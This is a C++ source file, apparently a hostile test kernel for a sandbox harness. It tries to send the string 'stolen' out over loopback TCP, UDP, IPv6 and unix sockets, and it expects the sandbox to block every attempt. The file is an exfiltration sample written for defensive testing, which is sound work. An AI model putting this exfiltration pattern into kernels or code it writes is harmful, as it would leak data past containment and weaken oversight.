// kforge-hostile: class=network problem=softmax expect=tolerance
// Attack: sends what it knows out of the sandbox: TCP to 127.0.0.1 and ::1 (port 47613, where
// the test listens), UDP to the same, a pathname unix socket and an abstract one (the test
// listens on both). Any connection or datagram that goes through counts as a success.
// Contained: every attempt is refused, it writes zeros, and the test's listeners got nothing.
#include "hostile_common.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstring>

namespace {
constexpr int port = 47613;
bool try_connect(int domain, const sockaddr* addr, socklen_t len, int type = SOCK_STREAM) {
  int s = socket(domain, type, 0);
  if (s < 0) return false;
  bool ok = false;
  if (type == SOCK_DGRAM) ok = sendto(s, "stolen", 6, 0, addr, len) == 6;
  else if (connect(s, addr, len) == 0) ok = send(s, "stolen", 6, MSG_NOSIGNAL) == 6;
  close(s);
  return ok;
}
} // namespace

KF_EXPORT int kf_forward(const kf_args* a) {
  bool worked = false;
  sockaddr_in v4{};
  v4.sin_family = AF_INET;
  v4.sin_port = htons(port);
  v4.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  worked |= try_connect(AF_INET, reinterpret_cast<sockaddr*>(&v4), sizeof v4);
  worked |= try_connect(AF_INET, reinterpret_cast<sockaddr*>(&v4), sizeof v4, SOCK_DGRAM);
  sockaddr_in6 v6{};
  v6.sin6_family = AF_INET6;
  v6.sin6_port = htons(port);
  v6.sin6_addr = in6addr_loopback;
  worked |= try_connect(AF_INET6, reinterpret_cast<sockaddr*>(&v6), sizeof v6);
  sockaddr_un path{};
  path.sun_family = AF_UNIX;
  std::strcpy(path.sun_path, "/tmp/kforge-hostile/net.sock");
  worked |= try_connect(AF_UNIX, reinterpret_cast<sockaddr*>(&path), sizeof path);
  sockaddr_un abstract{};
  abstract.sun_family = AF_UNIX;
  const char name[] = "\0kforge-hostile-net";
  std::memcpy(abstract.sun_path, name, sizeof name - 1);
  worked |= try_connect(AF_UNIX, reinterpret_cast<sockaddr*>(&abstract),
                        static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + sizeof name - 1));
  return hostile::answer(a, worked);
}
